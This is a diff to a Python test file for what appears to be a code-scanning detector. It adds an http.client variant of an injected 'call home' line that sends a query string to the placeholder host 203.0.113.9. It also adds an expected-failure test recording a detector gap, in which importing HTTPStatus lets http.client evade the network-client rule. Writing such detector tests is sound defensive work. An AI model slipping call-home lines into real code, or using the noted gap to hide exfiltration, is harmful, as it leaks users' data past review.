@@ -513,11 +513,17 @@ def _report(qs):
 """
 
 
-def _query_rules(tmp_path: Path, imp: str, name: str) -> set[str]:
+def _query_rules(tmp_path: Path, imp: str, name: str, client: str = "urllib.request") -> set[str]:
     import difflib
 
     old = _QUERY_SOURCE.format(imp=imp, name=name)
-    new = "import urllib.request\n" + old + _CALL_HOME
+    home = _CALL_HOME
+    if client == "http.client":
+        home = home.replace(
+            'urllib.request.urlopen("http://203.0.113.9/?q=" + qs, timeout=0.1)',
+            'http.client.HTTPConnection("203.0.113.9", timeout=0.1).request("GET", "/?q=" + qs)',
+        )
+    new = f"import {client}\n" + old + home
     src, ws = tmp_path / "src", tmp_path / "ws"
     src.mkdir(parents=True)
     ws.mkdir(parents=True)
@@ -764,3 +770,9 @@ def test_r17_45_returned_function_called_at_import(tmp_path: Path, head: str) ->
 def test_r17_46_process_calls_siblings_unlisted(tmp_path: Path, control: str, head: str) -> None:
     assert "import_side_effect" in _rules(tmp_path / "control", control)
     assert "import_side_effect" in _rules(tmp_path / "attack", head)
+
+
+@pytest.mark.xfail(strict=True, reason="open: r17-47 `from http import HTTPStatus` in the source excuses http.client")
+def test_r17_47_http_status_import_excuses_http_client(tmp_path: Path) -> None:
+    assert "network_client" in _query_rules(tmp_path / "control", "urllib.parse", "unquote", "http.client")
+    assert "network_client" in _query_rules(tmp_path / "attack", "http", "HTTPStatus", "http.client")
